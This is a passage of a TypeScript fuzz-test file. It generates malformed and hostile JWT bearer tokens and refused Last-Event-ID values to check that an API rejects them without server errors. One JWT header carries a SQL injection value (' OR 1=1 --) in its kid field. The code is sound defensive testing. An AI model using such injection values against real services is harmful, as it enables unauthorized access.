 * or refused, but never with a 5xx.
 */
export const signedHostileAuthorization: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(
      '{"alg":"HS256","typ":"JWT"}',
      '{"alg":"HS256"}',
      '{"alg":"HS256","typ":"JWT","kid":"\' OR 1=1 --"}',
      '{"alg":"HS256","b64":false,"crit":["b64"]}',
      '{"alg":"HS256","zip":"DEF"}',
    ),
    fc.oneof(
      fc.jsonValue({ maxDepth: 2 }).map((value) => JSON.stringify(value)),
      fc
        .record(
          {
            sub: fc.oneof(hostileString, fc.jsonValue({ maxDepth: 1 })),
            scope: fc.oneof(
              fc.constant(ALL_SCOPES.join(' ')),
              hostileString,
              fc.jsonValue({ maxDepth: 1 }),
              fc.constant(ALL_SCOPES.join('  ')),
              fc.constant(` ${ALL_SCOPES.join('\t')} `),
            ),
            scopes: fc.oneof(fc.constant([...ALL_SCOPES]), fc.jsonValue({ maxDepth: 2 })),
            exp: fc.oneof(fc.integer(), fc.constant(Math.floor(Date.now() / 1000) + 3600), fc.double(), fc.string()),
            nbf: fc.oneof(fc.integer(), fc.double(), fc.string()),
            iat: fc.oneof(fc.integer(), fc.string()),
            aud: fc.oneof(hostileString, fc.array(fc.string())),
            iss: hostileString,
          },
          { requiredKeys: [] },
        )
        .map((payload) => JSON.stringify(payload)),
      fc.constantFrom('not json', '', '[]', '"string"', '1', 'null'),
    ),
  )
  .map(([header, payload]) => `Bearer ${signHs256(header, payload)}`)
  .filter((value) => value.length < 3_000);

// ---------------------------------------------------------------------------------------------------
// The live feed

const POSITION = /^(0|[1-9][0-9]{0,15})$/;

/** True when GET /events/live must refuse this Last-Event-ID (syntax, or no event this far in the log). */
export function isRefusedLastEventId(value: string): boolean {
  const trimmed = value.trim();
  return !POSITION.test(trimmed) || Number(trimmed) >= 10 ** 12;
}

/** Last-Event-ID values the live feed must refuse: not a position, or a position no event has. */
export const refusedLastEventId: fc.Arbitrary<string> = fc
  .oneof(
    { weight: 4, arbitrary: hostileString.map(headerSafe) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        '-1',
        '01',
        '1.0',
        '1e3',
        '0x1',
        '١',
        '99999999999999999',
        '9007199254740993',
        '1,2',
        '1 2',
        'NaN',
        'null',
        'undefined',
      ),
    },
    { weight: 2, arbitrary: fc.bigInt({ min: 10n ** 12n, max: 10n ** 16n - 1n }).map(String) },
  )
  .filter(isRefusedLastEventId);

/** The same, fit for a header (sanitizing keeps them refused: only ASCII digits make a position). */
export const hostileLastEventId: fc.Arbitrary<string> = refusedLastEventId.map(headerSafe).filter(isRefusedLastEventId);

// ---------------------------------------------------------------------------------------------------
// Describing a request in a failure message

export function describeRequest(request: FuzzRequest): string {
  const clip = (text: string, max = 300) =>
    text.length > max ? `${text.slice(0, max - 60)}…${text.slice(-60)} (${text.length} chars)` : text;
  const lines = [`${request.method.toUpperCase()} ${clip(request.url)}`];
  if (request.authorization === null) lines.push('  (no Authorization)');
  else if (request.authorization !== undefined) lines.push(`  Authorization: ${clip(JSON.stringify(request.authorization))}`);
  for (const [name, value] of request.headers) lines.push(`  ${name}: ${clip(JSON.stringify(value))}`);
  if (request.body)
    lines.push(`  Content-Type: ${JSON.stringify(request.body.contentType)}`, `  body: ${clip(JSON.stringify(request.body.text))}`);
  return lines.join('\n');
}
